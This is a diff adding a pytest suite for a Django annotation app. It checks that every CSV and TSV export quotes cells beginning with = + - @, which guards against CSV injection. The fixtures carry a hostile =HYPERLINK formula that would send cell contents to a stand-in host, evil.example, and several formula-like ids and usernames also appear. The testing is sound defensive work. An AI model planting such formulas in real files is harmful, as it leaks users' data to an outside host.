@@ -1,0 +1,122 @@
+"""CSV exports of every kind neutralise spreadsheet formulas (OWASP "CSV
+injection"): ids, texts, run and user names that start with = + - @ come out
+quoted, whichever export an admin downloads."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from annotate import services
+from annotate.kinds import KINDS
+from annotate.models import Topic
+from scoring.reports import report_module
+
+pytestmark = pytest.mark.django_db
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Usernames allow + - @ (Django's validator), ids anything but white space and '/'.
+ASSESSORS = ["+alice", "@bob"]
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+TOPICS = {
+    "pairs": {"query": EVIL, "candidates": [{"id": "=c1", "text": EVIL}, {"id": "+c2", "text": "-2+3"},
+                                            {"id": "@c3", "text": "@SUM(A1:A9)"}]},
+    "ordering": {"items": [{"id": "=a", "text": EVIL}, {"id": "+b", "text": "+b"}, {"id": "-c", "text": "-c"}]},
+    "clustering": {
+        "documents": [{"id": "=d1"}, {"id": "@d2"}],
+        "sentences": [{"id": "=s1", "document": "=d1", "position": 0, "text": EVIL},
+                      {"id": "+s2", "document": "=d1", "position": 1, "text": "+x"},
+                      {"id": "-s3", "document": "@d2", "position": 0, "text": "-x"},
+                      {"id": "@s4", "document": "@d2", "position": 1, "text": "@x"}],
+    },
+    "nuggets": {"target": EVIL, "nuggets": [{"id": "=n1", "text": EVIL, "label": "vital"}, {"id": "+n2", "text": "-n2"}],
+                "responses": [{"id": "=r1", "run": "=runA", "text": EVIL}]},
+    "factoids": {"summaries": [
+        {"id": "=M1", "author": "+ann", "sentences": [{"id": "=m1", "text": EVIL}, {"id": "+m2", "text": "-x"}]},
+        {"id": "@S1", "run": "-sys", "sentences": [{"id": "@x1", "text": "@x"}]},
+    ]},
+}
+PAYLOADS = {
+    "pairs": {"matches": {"=c1": True, "+c2": False, "@c3": True}},
+    "ordering": {"order": ["+b", "=a", "-c"]},
+    "clustering": {"clusters": [["=s1", "-s3"], ["+s2", "@s4"]], "descriptions": [EVIL, "+1"]},
+    "nuggets": {"labels": {"=n1": "vital", "+n2": "okay"}},
+    "factoids": {"factoids": [{"id": "=F1", "text": EVIL}, {"id": "+F2", "text": "-F2"}],
+                 "marks": {"=m1": ["=F1"], "+m2": ["+F2"], "@x1": ["=F1"]}},
+}
+RUNS = {
+    "pairs": [{"name": "=sys1", "data": {"results": {"=t1": [{"id": "=c1", "text": EVIL}]}}}],
+    "ordering": [{"name": "=sys1", "data": {"orderings": {"=t1": ["=a", "+b", "-c"]}}}],
+    "clustering": [{"name": "=sys1", "data": {"clusterings": {"=t1": [["=s1", "+s2"]]}}}],
+    "nuggets": [{"name": "=runA", "data": {"responses": {"=t1": {"text": EVIL, "matches": ["=n1"]}}}}],
+    "factoids": [],
+}
+
+
+@pytest.fixture
+def evil_campaign(people, make_user):
+    for name in ASSESSORS:
+        make_user(name)
+
+    def make(kind: str):
+        campaign = services.create_campaign(creator=people["organiser"], kind=kind, name=f"{kind} evil", overlap=2)
+        for name in ASSESSORS:
+            services.add_member(campaign=campaign, username=name, role="assessor")
+        topics = [{"external_id": "=t1", "title": EVIL, "data": TOPICS[kind]}]
+        (topic,) = services.import_topics(campaign=campaign, topics=topics)
+        topic = Topic.objects.get(pk=topic.pk)
+        for user in campaign.memberships.filter(role="assessor").select_related("user"):
+            services.save_judgment(topic=topic, assessor=user.user, payload=PAYLOADS[kind], status="submitted", version=0)
+        if RUNS[kind]:
+            services.import_runs(campaign=campaign, runs=RUNS[kind])
+        if kind == "factoids":
+            services.save_curation(topic=topic, name="consensus", data=PAYLOADS[kind], version=0, user=people["organiser"])
+            services.save_curation(topic=topic, name="relations", version=0, user=people["organiser"],
+                                   data={"pairs": {"+alice|@bob": [{"first": ["=F1"], "second": ["=F1"]}]}})
+        return campaign
+
+    return make
+
+
+def test_every_kind_is_covered():
+    assert set(TOPICS) == set(KINDS), "add formula-looking data for the new kind"
+
+
+@pytest.mark.parametrize("kind", sorted(KINDS))
+def test_csv_exports_neutralise_formulas(api, people, evil_campaign, kind):
+    campaign = evil_campaign(kind)
+    module = report_module(campaign.kind)
+    admin = api(people["admin"])
+    cells = []
+    for truth in module.truths(sorted(ASSESSORS)):
+        response = admin.get(f"/api/campaigns/{campaign.pk}/export/", {"format": "csv", "truth": truth})
+        if response.status_code == 400:  # a table that needs a finished analysis first
+            continue
+        assert response.status_code == 200, (truth, response.content[:300])
+        rows = list(csv.reader(io.StringIO(response.content.decode())))
+        cells += [(truth, cell) for row in rows[1:] for cell in row]
+    assert cells, "no CSV export had any rows"
+    quoted = [cell for _, cell in cells if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)]
+    assert quoted, "the formula-looking data never reached an export"
+    live = [(truth, cell) for truth, cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
+    assert not live, live
+
+
+def is_number(cell: str) -> bool:
+    """Numbers Concord writes itself (a negative score, say) are left alone."""
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_the_nuggets_tsv_answer_key_neutralises_formulas(api, people, evil_campaign):
+    campaign = evil_campaign("nuggets")
+    response = api(people["admin"]).get(f"/api/campaigns/{campaign.pk}/export/", {"format": "tsv", "truth": "answer-key"})
+    assert response.status_code == 200
+    cells = [cell for line in response.content.decode().splitlines() for cell in line.split("\t")]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
